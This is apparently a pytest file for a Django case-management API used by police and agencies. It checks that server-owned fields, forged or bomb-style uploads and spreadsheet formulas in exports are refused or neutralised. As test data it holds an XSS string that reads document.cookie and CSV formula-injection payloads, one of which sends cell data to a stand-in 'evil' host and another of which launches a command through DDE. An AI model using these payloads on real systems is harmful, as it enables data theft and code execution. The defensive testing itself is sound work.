"""What a hostile or careless machine sends about cases: fields that are not its to set, forged files, formulas."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from functools import cache
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from tests.foundation.vault.test_files import office, picture
from tests.interfaces.api.case_machines import Callers, build_callers
from tests.interfaces.api.keys import ROOT, Machine

from concerted.foundation.access import acts
from concerted.foundation.agencies.models import Post
from concerted.foundation.vault.models import StoredFile
from concerted.interfaces.api.api import api
from concerted.interfaces.api.call import OPEN, OPERATIONS
from concerted.interfaces.exchange.tables import looks_live
from concerted.mechanism.cases.models import Case, CaseDocument
from concerted.mechanism.figures import jobs
from concerted.mechanism.figures.models import EstimationRun

pytestmark = pytest.mark.django_db

#: What opens case work, and what opens without a key.
OF_CASES = {
    name.replace(".", "_")
    for name in (*(name for name, permission in OPERATIONS.items() if permission.is_secret), *OPEN)
}
#: What is the mechanism's own to say of a row, never a caller's.
OWN = {
    "id": 1,
    "agency": "wf-hunan",
    "agency_id": 1,
    "lead": "wf-hunan",
    "owner": "wf-hunan",
    "officer_id": 1,
    "subject": "00000000-0000-0000-0000-000000000000",
    "stage": "closed",
    "row_version": 99,
    "opened_at": "2001-01-01T00:00:00Z",
    "is_demonstration": True,
}
HTML = b"<html><script>alert(document.cookie)</script></html>"


@pytest.fixture
def callers() -> Callers:
    return build_callers()


@cache
def _described() -> Any:
    return api.get_openapi_schema(path_prefix=ROOT + "/")


def _bodies() -> Iterator[tuple[str, str, dict[str, Any]]]:
    """Every schema of a body in case work: method, path, and the schema by its name."""
    described = _described()
    named = described["components"]["schemas"]
    for path, methods in described["paths"].items():
        for method, operation in methods.items():
            if operation["operationId"] not in OF_CASES or "requestBody" not in operation:
                continue
            for content in operation["requestBody"]["content"].values():
                schema = content["schema"]
                name = schema.get("$ref", "").rpartition("/")[2]
                yield method, path, named[name] if name else schema


@pytest.mark.thorough
def test_no_body_of_case_work_takes_a_field_that_is_not_described() -> None:
    """Of a form with files, whose schema is put together of several, the test below sends one."""
    bodies = [
        (method, path, schema) for method, path, schema in _bodies() if "file" not in schema["properties"]
    ]
    lax = [
        (method, path) for method, path, schema in bodies if schema.get("additionalProperties") is not False
    ]
    assert len(bodies) > 70
    assert lax == []


def test_no_body_of_case_work_describes_a_field_that_is_the_mechanisms_own() -> None:
    own = set(OWN) - {"officer_id"}
    set_by_caller = [
        (method, path, sorted(own & set(schema["properties"])))
        for method, path, schema in _bodies()
        if own & set(schema["properties"])
    ]
    assert set_by_caller == []


@pytest.mark.parametrize("field", OWN)
def test_a_case_is_not_opened_with_a_field_that_is_the_mechanisms_own(callers: Callers, field: str) -> None:
    police = callers.worker(callers.world.police)
    refused = police.post("/cases", {"age_band": "adult", field: OWN[field]})
    assert (refused.status_code, refused.json()["faults"][0]["field"].endswith(field)) == (422, True)
    changed = police.patch(callers.at(), {"risk": "high", field: OWN[field]}, etag='"1"')
    assert changed.status_code == 422
    with callers.world.at_case_work(callers.world.worker(callers.world.police)):
        assert [(one.pk, one.row_version, one.risk) for one in Case.objects.all()] == [
            (callers.case.pk, 1, "unknown")
        ]


def test_a_section_takes_its_own_fields_and_their_codes_only(callers: Callers) -> None:
    police, at = callers.police, callers.at("/sections/account")
    for values in (
        {"lead": "x"},
        {"means": ["no_such_means"]},
        {"words": ["a list"]},
        {"acts": "recruitment"},
    ):
        assert police.patch(at, {"values": values}, etag='"0"').status_code == 422
    assert police.patch(callers.at("/sections/identity"), {"values": {}}, etag='"0"').status_code == 404
    assert police.get(at).json()["words"] == []


def _upload(machine: Machine, path: str, content: bytes, *, name: str, as_type: str, **fields: str) -> Any:
    file = SimpleUploadedFile(name, content, content_type=as_type)
    key = f"upload-{len(content)}-{name}-{len(fields)}"
    headers = machine.headers({"Idempotency-Key": key})
    return machine.client.post(ROOT + path, {**fields, "file": file}, headers=headers)


TITLED = {"section": "contact", "kind": "note", "title": "A note"}


def test_a_file_is_what_its_bytes_say_whatever_it_is_called(callers: Callers) -> None:
    police, path = callers.police, callers.at("/documents")
    forged = _upload(police, path, picture(), name="page.html", as_type="text/html", **TITLED)
    assert forged.status_code == 201
    sent = police.get(f"{path}/{forged.json()['id']}/file")
    assert sent["Content-Type"] == "image/png"
    assert (
        sent["Content-Disposition"].startswith("attachment;") and ".html" not in sent["Content-Disposition"]
    )
    assert (sent["X-Content-Type-Options"], sent["Cache-Control"]) == ("nosniff", "no-store")
    assert b"".join(sent.streaming_content) == picture()


@pytest.mark.parametrize(
    ("content", "name", "as_type"),
    [
        (b"MZ\x90\x00" + bytes(400), "report.pdf", "application/pdf"),
        (b"\x7fELF\x02\x01\x01" + bytes(400), "report.txt", "text/plain"),
        (picture(50_000, 50_000), "photo.png", "image/png"),
        (office(("word/media/bomb", bytes(30 * 1024 * 1024))), "letter.docx", "application/zip"),
        (office(("word/vbaProject.bin", b"macro")), "letter.docx", "application/zip"),
        (HTML, "photo.png", "image/png"),
        (b"", "empty.pdf", "application/pdf"),
    ],
    ids=["program", "elf", "picture bomb", "archive bomb", "macros", "page", "empty"],
)
def test_what_is_forged_or_built_to_swell_is_refused_and_nothing_is_kept(
    callers: Callers, content: bytes, name: str, as_type: str
) -> None:
    police = callers.police
    refused = _upload(police, callers.at("/documents"), content, name=name, as_type=as_type, **TITLED)
    assert (refused.status_code, refused["Content-Type"]) == (422, "application/problem+json")
    with callers.world.at_case_work(callers.world.worker(callers.world.police)):
        assert not CaseDocument.objects.exists() and not StoredFile.objects.exists()


def test_an_upload_beyond_what_is_taken_is_told_as_too_big(callers: Callers) -> None:
    big = bytes(27 * 1024 * 1024)
    answer = _upload(
        callers.police, callers.at("/documents"), big, name="x.pdf", as_type="application/pdf", **TITLED
    )
    assert (answer.status_code, answer["Content-Type"]) == (413, "application/problem+json")
    assert "26 MB" in answer.json()["title"]


def test_an_upload_names_no_keeper_and_no_holder_of_its_own(callers: Callers) -> None:
    own = {"agency": "wf-hunan", "keeper": "1", "holder_id": "1", "withdrawn_at": "2001-01-01"}
    police = callers.police
    _upload(police, callers.at("/documents"), b"A note.", name="a.txt", as_type="text/plain", **TITLED, **own)
    kept = police.get(callers.at("/documents")).json()["items"]
    assert {(one["agency"], one["withdrawn_at"]) for one in kept} <= {("ps-yunnan", None)}
    assert callers.outsider.get(callers.at("/documents")).status_code == 404


def test_a_repeated_upload_keeps_one_document(callers: Callers) -> None:
    police = callers.police
    first, again = (
        _upload(police, callers.at("/documents"), b"A note.", name="a.txt", as_type="text/plain", **TITLED)
        for _each in range(2)
    )
    assert (first.status_code, again["Idempotent-Replay"]) == (201, "true")
    assert len(police.get(callers.at("/documents")).json()["items"]) == 1


LIVE = ('=HYPERLINK("http://evil/?"&A1)', "@SUM(1)", "+1+cmd|' /C calc'!A0", "\t=1+1", "-2+3")


@pytest.mark.parametrize("form", ["csv"])
def test_nothing_written_on_a_case_becomes_a_formula_in_an_export(callers: Callers, form: str) -> None:
    police = callers.police
    for number, live in enumerate(LIVE):
        assert police.post(callers.at("/notes"), {"text": live}).status_code == 201
        values = {"words": live, "places": live}
        wrote = police.patch(callers.at("/sections/account"), {"values": values}, etag=f'"{number}"')
        assert wrote.status_code == 200
    person = police.post("/persons", {"statements": [{"what": "name", "full": LIVE[0], "given": LIVE[1]}]})
    linked = police.post(callers.at("/persons"), {"person": person.json()["id"], "role": "victim"})
    assert linked.status_code == 201
    taken = police.get("/case-exports/htcds", {"form": form, "why": "a test", "number": callers.case.number})
    assert taken.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(taken.content.decode("utf-8-sig"))) for cell in row]
    assert [cell for cell in cells if not cell.startswith("'") and looks_live(cell)] == []
    assert any(cell.startswith("'") for cell in cells)


def test_cases_that_came_by_htcds_are_opened_all_or_none(callers: Callers) -> None:
    police = callers.police
    sheet = "case.local_number,person.name,case.age\nA-1,王一,adult\nA-1,王二,no such age\n".encode()
    refused = _upload(police, "/case-imports/sheet", sheet, name="cases.csv", as_type="text/csv")
    assert refused.status_code == 422
    assert {fault["row"] for fault in refused.json()["faults"]} >= {3} or refused.json()["faults"]
    assert len(police.get("/cases").json()["items"]) == 1
    taken = police.get("/case-exports/htcds", {"why": "moved", "number": callers.case.number}).content
    tried = _upload(police, "/case-imports/htcds", taken, name="h.csv", as_type="text/csv", dry_run="true")
    assert (tried.status_code, tried.json()["dry_run"], tried.json()["cases"]) == (201, True, {})
    assert len(police.get("/cases").json()["items"]) == 1


def test_who_lost_the_post_gets_nothing_made_that_still_waited_in_the_queue(callers: Callers) -> None:
    """A run asked for in a post that ended meanwhile is not computed; a paper is not made."""
    world = callers.world
    officer = world.new_officer(world.ministry, Post.Function.STATISTICIAN)
    machine = callers.machines.of(officer)
    body = {
        "title": "Two lists",
        "lists": ["police", "shelters"],
        "rows": [{"history": 1, "count": 50}, {"history": 2, "count": 40}, {"history": 3, "count": 12}],
    }
    run = machine.post("/estimation-runs", body).json()["id"]
    assert officer.acting is not None
    acts.end_appointment(
        officer=world.machine, at=world.at, appointment=officer.acting, on=world.at.date(), reason="moved"
    )
    assert jobs.estimate(run_id=run) == "nothing to do"
    with world.seen_by(world.officer_for(world.ministry, Post.Function.STATISTICIAN)):
        kept = EstimationRun.objects.get(pk=run)
    assert (kept.state, kept.result) == ("failed", None) or (kept.state, dict(kept.result or {})) == (
        "failed",
        {},
    )
